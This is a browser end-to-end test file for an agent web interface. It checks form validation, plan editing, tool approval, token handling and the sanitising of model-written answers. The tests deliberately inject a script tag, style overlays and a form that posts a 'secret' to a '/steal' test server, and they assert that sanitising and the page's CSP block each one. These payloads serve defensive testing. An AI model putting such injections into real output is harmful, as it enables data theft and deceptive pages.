/**
 * The web page in real Chromium (Debian's /usr/bin/chromium driven by playwright-core) against
 * the real dev server, a worker in this process and the scripted LLM: submit a task with ask
 * and plan check, fill the typed form (a client-side check first), see the server's message
 * for a rejected plan edit, confirm the plan, approve a write_file call, and watch every graph
 * node complete and the Markdown answer render, sanitised — and still there after a reload.
 * A model-written form or styling never reaches the page, and the page's CSP lets no form post.
 * The agent list names the Worker Deployment build an agent is pinned to.
 */
import { mkdirSync, mkdtempSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { launchChromium } from '../harness/chromium';
import { describeDeployment, setCurrent } from '../../temporal/deployments';
import { reply } from '../fake-llm/replies';
import { byRoute } from '../fake-llm/routes';
import { agentTestbed } from '../harness/agent-testbed';
import { serveOnLoopback } from '../harness/sse-client';
import { startAgent, waitForInteraction, agentFile } from '../harness/agents';
import { finish, plan, planReply, step } from '../harness/plans';
import { testConfig, uniqueId, withWorker } from '../harness/test-env';
import type { WorkerVersion } from '../../config/versioning-config';
import { waitUntil } from '../../testkit/wait-until';
import { testApp } from '../harness/http-app';

const ARTIFACTS = join(__dirname, '..', 'artifacts');
const WAIT = { timeout: 30_000 };

const bed = agentTestbed();

jest.setTimeout(180_000);

interface Served {
  url: string;
  close(): Promise<void>;
}

/** Serves the real app (API + page) on a free loopback port. */
async function serveApp(taskQueue: string, apiToken?: string): Promise<Served> {
  const app = testApp(bed.client, taskQueue, {
    eventTiming: { pollMs: 100, heartbeatMs: 1_000 },
    ...(apiToken !== undefined ? { apiToken } : {}),
  });
  return serveOnLoopback(app);
}

/** The control of the open interaction of `kind`. */
const control = (page: Page, kind: string) => page.locator(`.interaction[data-kind="${kind}"]`);

test('a task from the page: form, plan check, approval, live graph and the Markdown answer', async () => {
  const workspace = mkdtempSync(join(tmpdir(), 'web-'));
  const config = testConfig(bed.llm, { CAIRN_WORKSPACE: workspace });
  const fields = [
    { key: 'audience', label: 'Audience', type: 'input', required: true, maxLength: 30 },
    { key: 'pages', label: 'Pages', type: 'number', required: true, min: 1, max: 20 },
    { key: 'draft', label: 'Draft?', type: 'boolean', required: false, default: true },
  ];
  const summary = '## Brief\n\nNotes written for **engineers**.\n\n<script>window.pwned = 1</script>';
  bed.llm.respondWith(
    byRoute({
      plan: [
        reply.toolCall('ask_user', { kind: 'form', prompt: 'A few details', fields }, 'ask-f'),
        planReply(plan([step('s1', [], { title: 'Write notes' }), step('s2', ['s1'], { title: 'Review notes' })])),
      ],
      'step:s1': [reply.toolCall('write_file', { path: 'notes.md', content: 'hello' }, 'w1'), finish('wrote notes')],
      'step:s2': [finish('reviewed')],
      summary: [reply.text(summary)],
    }),
  );
  const served = await serveApp(config.taskQueue);
  const { context, close: closeBrowser } = await launchChromium({ viewport: { width: 1280, height: 1000 } });
  const pageErrors: string[] = [];
  const consoleErrors: string[] = [];
  try {
    await withWorker(config, async () => {
      const page = context.pages()[0] ?? (await context.newPage());
      page.on('pageerror', (err) => pageErrors.push(err.message));
      page.on('console', (message) => {
        if (message.type() === 'error') consoleErrors.push(message.text());
      });
      await page.goto(`${served.url}/`);

      // Submit with ask + confirm-plan.
      await page.locator('#task').fill('Write notes for the team');
      await page.locator('input[name="ask"]').check();
      await page.locator('input[name="confirmPlan"]').check();
      await page.getByRole('button', { name: 'Start agent' }).click();
      await page.waitForURL(/\/agents\/agent-/, WAIT);
      const agentId = decodeURIComponent(new URL(page.url()).pathname.split('/')[2] ?? '');

      // The form: a number over max is caught in the page, then a valid answer goes through.
      const form = control(page, 'ask.form');
      await form.waitFor(WAIT);
      await form.locator('[data-key="audience"] input').fill('engineers');
      await form.locator('[data-key="pages"] input').fill('99');
      await form.getByRole('button', { name: 'Send' }).click();
      await form.locator('[data-key="pages"] .field-error', { hasText: 'Must be at most 20.' }).waitFor(WAIT);
      await form.locator('[data-key="pages"] input').fill('3');
      await form.getByRole('button', { name: 'Send' }).click();

      // The plan check: a broken edit is refused by the server with its message, then confirm.
      const check = control(page, 'plan.check');
      await check.waitFor(WAIT);
      await page.locator('.plan-graph .node[data-step-id="s2"][data-status="pending"]').waitFor(WAIT);
      await check.getByText('Edit as JSON').click();
      const broken = plan([step('s1', ['nowhere'])]);
      await check.getByLabel('plan JSON').fill(JSON.stringify(broken));
      await check.getByRole('button', { name: 'Save edited plan' }).click();
      await check.locator('.server-error', { hasText: 'nowhere' }).waitFor(WAIT);
      await check.getByRole('button', { name: 'Confirm plan' }).click();

      // The tool approval shows the tool and its arguments; approve it.
      const approval = control(page, 'tool.approval');
      await approval.waitFor(WAIT);
      expect(await approval.locator('.tool-name').textContent()).toBe('write_file');
      expect(await approval.locator('.tool-args').textContent()).toContain('notes.md');
      await page.locator('.plan-graph .node[data-step-id="s1"][data-status="waiting"]').waitFor(WAIT);
      await approval.getByRole('button', { name: 'Approve' }).click();

      // Every node turns completed, and the answer is rendered Markdown without the script.
      await page.locator('.final-answer h2', { hasText: 'Brief' }).waitFor(WAIT);
      await page.locator('.plan-graph .node[data-step-id="s2"][data-status="completed"]').waitFor(WAIT);
      expect(await page.locator('.plan-graph .node').count()).toBe(2);
      expect(await page.locator('.plan-graph .node:not([data-status="completed"])').count()).toBe(0);
      expect(await page.locator('.plan-graph .edge').count()).toBe(1);
      expect(await page.locator('.final-answer strong').textContent()).toBe('engineers');
      expect(await page.locator('.final-answer script').count()).toBe(0);
      expect(await page.locator('.badge.demo').count()).toBe(0);
      expect(await page.locator('.agent-header .temporal-link').getAttribute('href')).toBe(
        `http://127.0.0.1:8233/namespaces/default/workflows/${encodeURIComponent(agentId)}`,
      );
      expect(await page.locator('tr[data-step-id="s1"] .temporal-link').getAttribute('href')).toContain(
        encodeURIComponent(`${agentId}/step-s1`),
      );
      expect(readFileSync(agentFile(workspace, agentId, 'notes.md'), 'utf8')).toBe('hello');

      // A reload rebuilds the page from the server's state.
      await page.reload();
      await page.locator('.final-answer h2', { hasText: 'Brief' }).waitFor(WAIT);
      await page.locator('[data-phase="completed"]').first().waitFor(WAIT);
      await page.locator('.timeline li[data-type="summary"]').first().waitFor(WAIT);
      mkdirSync(ARTIFACTS, { recursive: true });
      await page.screenshot({ path: join(ARTIFACTS, 'agent-page.png'), fullPage: true });

      // The list on the home page links to the agent.
      await page.getByRole('link', { name: '← all agents' }).click();
      await page.locator(`.agent-row[data-id="${agentId}"] a`, { hasText: 'Write notes for the team' }).waitFor(WAIT);
    });
    expect(pageErrors).toEqual([]);
    // Only the deliberately rejected plan edit: no CSP violation, no missing file.
    expect(consoleErrors).toEqual([expect.stringContaining('status of 400')]);
  } finally {
    await closeBrowser();
    await served.close();
  }
});

test('with an API token: a ?token= link is not followed; a token pasted into the page is, until forgotten', async () => {
  const token = 'a-browser-test-token-long-enough';
  const served = await serveApp(bed.config.taskQueue, token);
  const { context, close: closeBrowser } = await launchChromium({ viewport: { width: 1280, height: 1000 } });
  try {
    const page = context.pages()[0] ?? (await context.newPage());
    await page.goto(`${served.url}/`);
    await page.locator('#agents .error', { hasText: 'Bearer' }).waitFor(WAIT);
    const keptKeys = () => page.evaluate('JSON.stringify(Object.keys(localStorage))');

    // A link carrying the token: dropped from the address unused, and the page says why.
    await page.goto(`${served.url}/?token=${token}`);
    await page.locator('.link-token', { hasText: 'no longer takes tokens from links' }).waitFor(WAIT);
    expect(new URL(page.url()).search).toBe('');
    await page.locator('#agents .error', { hasText: 'Bearer' }).waitFor(WAIT);
    expect(await keptKeys()).toBe('[]');

    // A wrong token pasted is refused by the server and not kept.
    const box = page.locator('header .token-box');
    await box.locator('input[name="token"]').fill('not-the-token-of-this-server');
    await box.getByRole('button', { name: 'Use token' }).click();
    await box.locator('.error', { hasText: 'refused this token (401)' }).waitFor(WAIT);
    expect(await keptKeys()).toBe('[]');

    // The right one is kept: the list loads, and the header says whose token acts — after a reload too.
    await box.locator('input[name="token"]').fill(token);
    await Promise.all([page.waitForEvent('load'), box.getByRole('button', { name: 'Use token' }).click()]);
    for (const load of ['pasted', 'reloaded']) {
      if (load === 'reloaded') await page.reload();
      await page.locator('#agents ul, #agents p.muted:not(:has-text("Loading"))').first().waitFor(WAIT);
      expect(await page.locator('#agents .error').count()).toBe(0);
      await page.locator('header .identity .who', { hasText: 'API token of CAIRN_API_TOKEN (admin)' }).waitFor(WAIT);
    }
    await page.goto(`${served.url}/agents/agent-none-00000000`);
    await page.locator('.agent-header .error', { hasText: 'agent-none-00000000' }).waitFor(WAIT);

    // "Forget token" forgets it.
    await Promise.all([page.waitForEvent('load'), page.getByRole('link', { name: 'Forget token' }).click()]);
    await page.goto(`${served.url}/`);
    await page.locator('#agents .error', { hasText: 'Bearer' }).waitFor(WAIT);
    expect(await keptKeys()).toBe('[]');
  } finally {
    await closeBrowser();
    await served.close();
  }
});

test('a model-written form and styling are stripped from the answer, and the page lets no form post', async () => {
  // Another origin that would receive whatever a form posted to it.
  const received: string[] = [];
  const elsewhere = createServer((req, res) => {
    received.push(`${req.method} ${req.url}`);
    res.end('got it');
  });
  const elsewherePort = await new Promise<number>((resolve) =>
    elsewhere.listen(0, '127.0.0.1', () => resolve((elsewhere.address() as AddressInfo).port)),
  );
  const steal = `http://127.0.0.1:${elsewherePort}/steal`;
  const answer = [
    '## Result',
    '',
    `<form action="${steal}" method="post"><input name="q" value="secret"><button>Continue</button></form>`,
    '',
    '<textarea>typed</textarea><select><option>one</option></select>',
    '',
    '<style>.final-answer { display: none }</style>',
    '',
    '<p style="position: fixed; inset: 0">styled</p>',
    '',
    '- [x] done',
    '- [ ] open',
  ].join('\n');
  bed.llm.respondWith(byRoute({ 'step:task': [finish(answer)] }));
  const served = await serveApp(bed.config.taskQueue);
  const { context, close: closeBrowser } = await launchChromium({ viewport: { width: 1280, height: 1000 } });
  try {
    await withWorker(bed.config, async () => {
      const handle = await startAgent(bed.client, bed.config, { task: 'Answer with a form', mode: { plan: false } });
      expect(await handle.result()).toMatchObject({ status: 'completed', answer });
      const page = context.pages()[0] ?? (await context.newPage());
      const response = await page.goto(`${served.url}/agents/${encodeURIComponent(handle.workflowId)}`);
      expect(response?.headers()['content-security-policy']).toContain("form-action 'none'");
      await page.locator('.final-answer h2', { hasText: 'Result' }).waitFor(WAIT);
      const final = page.locator('.final-answer');
      expect(await final.locator('form, input, button, textarea, select, option, style, [style]').count()).toBe(0);
      expect(await final.locator('p', { hasText: 'styled' }).count()).toBe(1);
      expect(await final.locator('li').allTextContents()).toEqual(['☑ done', '☐ open']);

      // Even a form the page itself built, posted to another origin, is stopped by the CSP.
      const where = page.url();
      // (Page code as text: the test's TypeScript has no DOM types.) Only the form's violation
      // counts: a re-render of the answer may report the inline style DOMPurify removes meanwhile.
      const violated: unknown = await page.evaluate(`new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => {
          if (e.effectiveDirective === 'form-action') resolve(e.effectiveDirective);
        });
        const form = document.createElement('form');
        form.method = 'post';
        form.action = ${JSON.stringify(steal)};
        document.body.append(form);
        form.submit();
      })`);
      expect(violated).toBe('form-action');
      expect(page.url()).toBe(where);
      expect(received).toEqual([]);
    });
  } finally {
    await closeBrowser();
    await served.close();
    await new Promise<void>((resolve) => elsewhere.close(() => resolve()));
  }
});

test('the list names the build each agent runs on (its Worker Deployment version), and none when unversioned', async () => {
  const version: WorkerVersion = { deploymentName: uniqueId('web-deploy'), buildId: '2.1.0+bbbbbbb' };
  const unversioned = testConfig(bed.llm);
  bed.llm.respondWith(byRoute({ plan: [planReply(plan([step('s1')])), planReply(plan([step('s1')]))] }));
  // Two task queues: a versioned worker on the testbed's, an unversioned one on another.
  const started = await withWorker(unversioned, async () => {
    const handle = await startAgent(bed.client, unversioned, {
      task: 'Unversioned agent',
      mode: { confirmPlan: true },
    });
    await waitForInteraction(handle, 'plan.check');
    return handle;
  });
  await withWorker(
    bed.config,
    async () => {
      await waitUntil(
        'the version registered',
        async () =>
          ((await describeDeployment(bed.client, 'default', version.deploymentName))?.versions.length ?? 0) === 1,
      );
      await setCurrent(bed.client, 'default', version);
      const pinned = await startAgent(bed.client, bed.config, { task: 'Pinned agent', mode: { confirmPlan: true } });
      await waitForInteraction(pinned, 'plan.check');
      const served = await serveApp(bed.config.taskQueue);
      const { context, close: closeBrowser } = await launchChromium({ viewport: { width: 1280, height: 1000 } });
      try {
        const page = context.pages()[0] ?? (await context.newPage());
        await page.goto(`${served.url}/`);
        const row = (id: string) => page.locator(`#agents li.agent-row[data-id="${id}"]`);
        await row(pinned.workflowId).locator('.version').waitFor(WAIT);
        expect(await row(pinned.workflowId).locator('.version').textContent()).toBe(version.buildId);
        await row(started.workflowId).waitFor(WAIT);
        expect(await row(started.workflowId).locator('.version').count()).toBe(0);
      } finally {
        await closeBrowser();
        await served.close();
      }
      await pinned.cancel();
    },
    undefined,
    { version },
  );
  await started.terminate('test over');
});

test('an interaction of a kind the page has no control for says so and sends an answer written as JSON', async () => {
  const served = await serveApp(bed.config.taskQueue);
  const { context, close: closeBrowser } = await launchChromium({ viewport: { width: 1280, height: 1000 } });
  try {
    const page = context.pages()[0] ?? (await context.newPage());
    await page.goto(`${served.url}/`);
    // The page's own module, as the agent view uses it, given a kind no module of the agent has
    // (a worker newer than the page) and one it knows. (Page code as text: the tests' types have no DOM.)
    await page.evaluate(`(async () => {
      const { interactionControl } = await import('/web/forms.js');
      window.sent = [];
      const send = async (answer) => void window.sent.push(answer);
      document.body.append(
        interactionControl({ id: 'i8', kind: 'survey.rating', prompt: 'How was it?' }, send),
        interactionControl({ id: 'i9', kind: 'step.failure', prompt: 'Step s1 failed', error: 'boom' }, send),
      );
    })()`);
    const unknown = control(page, 'survey.rating');
    expect(await unknown.locator('.unknown-kind').textContent()).toContain('no control for survey.rating');
    expect(await control(page, 'step.failure').locator('.unknown-kind').count()).toBe(0);
    const json = unknown.getByLabel('answer JSON');
    await json.fill('{ "stars": ');
    await unknown.getByRole('button', { name: 'Send' }).click();
    await unknown.locator('.error', { hasText: 'Not valid JSON' }).waitFor(WAIT);
    await json.fill('{ "stars": 4 }');
    await unknown.getByRole('button', { name: 'Send' }).click();
    await unknown.getByText('Answer sent.').waitFor(WAIT);
    expect(await page.evaluate('window.sent')).toEqual([{ stars: 4 }]);
  } finally {
    await closeBrowser();
    await served.close();
  }
});
